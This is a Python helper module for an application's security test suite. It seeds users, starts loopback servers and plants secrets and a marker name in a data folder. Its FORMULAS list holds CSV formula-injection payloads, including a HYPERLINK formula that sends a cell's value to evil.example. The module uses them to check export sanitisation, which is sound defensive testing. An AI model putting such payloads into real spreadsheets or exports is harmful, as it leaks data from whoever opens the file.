"""Helpers of the security suite: a data folder with users, a finished run (whose registry carries
spreadsheet formulas and a marker name), monitor lists and planted files; real servers on loopback."""

from __future__ import annotations

import csv
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import httpx

os.environ["CLEMENCY_TEST_FAST_HASH"] = "1"
ROOT = Path(__file__).resolve().parents[2]
CLEMENCY = str(Path(sys.executable).parent / "clemency")
PASSWORDS = {"viewer": "viewer-password-1", "operator": "operator-password-1", "admin": "admin-password-12"}
MARKER = "Zzyzxmarker"          # a name planted in the registry: it must never reach a message or the audit
SECRET = "TOPSECRET-0123456789"  # planted in files outside what the app offers
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "@SUM(1+1)", "+41+1", "-2+3", "\t=1",
            "\r=1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HEADER_TIMEOUT, BODY_TIMEOUT = 2, 2


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def formula_registry(path: Path, rows: int = 40) -> Path:
    from clemency.registry.synth import synth
    src = synth(rows, path.with_name("src-" + path.name), seed=3)
    with open(src, newline="", encoding="utf-8") as fh:
        data = list(csv.DictReader(fh))
    data[0]["person_id"] = data[0]["case_id"] = FORMULAS[0]
    for i, f in enumerate(FORMULAS[1:], 1):
        data[i]["institution"] = f
        data[i]["full_name"] = f
    data[len(FORMULAS)]["full_name"] = MARKER + " Tofiq oğlu"
    data[len(FORMULAS) + 1]["sex"] = "=2+2"            # a finding whose value is a formula
    data[len(FORMULAS) + 1]["full_name"] = MARKER
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(data[0]))
        w.writeheader()
        w.writerows(data)
    return path


def seed(data: Path, url: str | None = None) -> dict:
    """Users, a finished and published run, monitor lists, planted files; what the tests need to know."""
    from clemency.store import open_store
    from clemency.web.jobs import Jobs
    from tests.test_web import seed_monitor
    seed_monitor(data)
    (data / "planted.yaml").write_text(SECRET + "\n", encoding="utf-8")
    (data / "monitor" / "lists" / "demo" / "planted.csv").write_text(SECRET, encoding="utf-8")
    os.mkfifo(data / "fifo.yaml")
    store = open_store(data, url)
    for role, pw in PASSWORDS.items():
        store.users.add(role, role, pw)
    jobs = Jobs(data / "runs", store)
    reg = formula_registry(data / "upload.csv")
    job = jobs.new("formulas.csv", "az-2025", {}, None, "operator")
    shutil.copyfile(reg, job.input_path)
    os.chmod(job.input_path, 0o600)        # as the upload route writes it
    jobs.run(job)
    assert job.meta["state"] == "done", job.meta.get("error")
    job.update(published=True)
    store.close()
    return {"run": job.id, "case": "AZ-C0000000010"}


class Server:
    def __init__(self, data: Path, *args: str, url: str | None = None, env: dict | None = None):
        self.data, self.port = data, free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        cmd = [CLEMENCY, "serve", "--port", str(self.port), "--data", str(data), *args]
        if url:
            cmd += ["--db", url]
        e = dict(os.environ, CLEMENCY_HEADER_TIMEOUT=str(HEADER_TIMEOUT), CLEMENCY_BODY_TIMEOUT=str(BODY_TIMEOUT),
                 **(env or {}))
        self.log = open(data.parent / f"server-{self.port}.log", "w")  # noqa: SIM115
        self.proc = subprocess.Popen(cmd, cwd=ROOT, env=e, stdout=self.log, stderr=subprocess.STDOUT,
                                     start_new_session=True)
        t0 = time.time()
        while True:
            try:
                if httpx.get(self.url + "/check", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            if self.proc.poll() is not None or time.time() - t0 > 120:
                self.stop()
                raise RuntimeError("the server did not start: " + (data.parent / f"server-{self.port}.log").read_text()[-2000:])
            time.sleep(0.3)

    def stop(self) -> None:
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(20)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait(10)
        self.log.close()

    def client(self, **kw) -> httpx.Client:
        return httpx.Client(base_url=self.url, timeout=60, **kw)


def csrf_of(client: httpx.Client, path: str = "/login") -> str:
    return re.search(r'name="csrf-token" content="([^"]+)"', client.get(path).text).group(1)


def signed_in(server: Server, role: str, address: str | None = None) -> tuple[httpx.Client, str]:
    """A client signed in as the user of that role; (client, its CSRF token)."""
    headers = {"x-forwarded-for": address} if address else {}
    c = server.client(headers=headers)
    if role == "anonymous":
        return c, csrf_of(c)
    r = c.post("/login", data={"csrf": csrf_of(c), "username": role, "password": PASSWORDS[role]})
    assert r.status_code == 303, r.text
    return c, csrf_of(c, "/check")


def upload_run(client: httpx.Client, token: str, name: str, content: bytes, wait: float = 120) -> tuple[str, dict]:
    """An upload of a registry as an operator, then its status once the run has ended: (run id, status)."""
    r = client.post("/runs", data={"csrf": token}, files={"registry": (name, content, "text/csv")})
    assert r.status_code == 303, (r.status_code, r.text[:300])
    run_id = r.headers["location"].rsplit("/", 1)[1]
    t0 = time.time()
    while time.time() - t0 < wait:
        s = client.get(f"/api/runs/{run_id}/status").json()
        if s["state"] in ("done", "failed"):
            return run_id, s
        time.sleep(0.3)
    raise AssertionError("the run did not end")


def server_log(server: Server) -> str:
    """What the server has written to its log so far."""
    server.log.flush()
    return (server.data.parent / f"server-{server.port}.log").read_text(encoding="utf-8", errors="replace")
